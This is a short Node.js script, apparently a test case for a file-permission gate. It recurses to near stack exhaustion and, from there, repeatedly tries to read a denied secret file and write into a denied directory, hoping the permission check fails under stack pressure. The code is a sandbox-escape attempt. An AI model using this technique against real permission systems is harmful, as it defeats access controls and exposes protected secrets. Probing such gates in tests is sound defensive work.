// Calls itself until the stack is nearly full, and acts at every depth from there on: something in the gate overflows.
// denied: file:read secret.txt
const fs = require('node:fs');
const lab = JSON.parse(process.argv[2]);
const texts = new Set();
const acts = [() => texts.add(fs.readFileSync(lab.secret, 'utf8')), () => fs.writeFileSync(`${lab.denied}/born`, 'x'), () => fs.readFileSync(`${lab.granted}/file.txt`, 'utf8')];
function deep(at) {
  try {
    deep(at + 1);
  } catch {
    // The stack is full; this frame has a little left of it.
  }
  if (at % 3 !== 0) return;
  try {
    acts[(at / 3) % acts.length]();
  } catch {
    // Refused, or again full.
  }
}
function start(padding) {
  return padding === 0 ? deep(0) : start(padding - 1);
}
for (let padding = 0; padding < 3; padding++) {
  try {
    let left = 400;
    (function fall() {
      try {
        fall();
      } catch {
        // From here up.
      }
      if (left-- > 0) {
        try {
          acts[left % acts.length]();
        } catch {
          // Refused, or full.
        }
      }
    })();
  } catch {
    // Full.
  }
}
console.log([...texts]);
console.log(fs.readFileSync(lab.secret, 'utf8'));
